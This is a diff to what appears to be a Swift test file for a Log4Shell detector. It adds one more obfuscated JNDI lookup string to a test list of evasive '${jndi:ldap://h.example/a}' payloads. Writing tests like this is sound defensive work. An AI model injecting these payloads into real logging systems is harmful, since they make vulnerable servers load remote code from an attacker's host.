@@ -57,6 +57,7 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     "${jndi${sys:path.separator}ldap:${sys:file.separator}/h.example/a}", "${LOWER:x${jndi:ldap://h.example/a}}",
     "${${lower:${upper:${lower:${::-${env:Q:-j}}}}}ndi:ldap://h.example/a}", "${what:ever:-${jndi:ldap://h.example/a}}",
     "${env:a:-${env:b:-$}{jndi:ldap://h.example/a}}", "${x:-$}{jndi:ldap://h.example/a}",
+    "${${::-${::-$${::-j}}}ndi:ldap://h.example/a}",
   ])
   func resolvesLookups(text: String) {
     let found = log4shell(text)
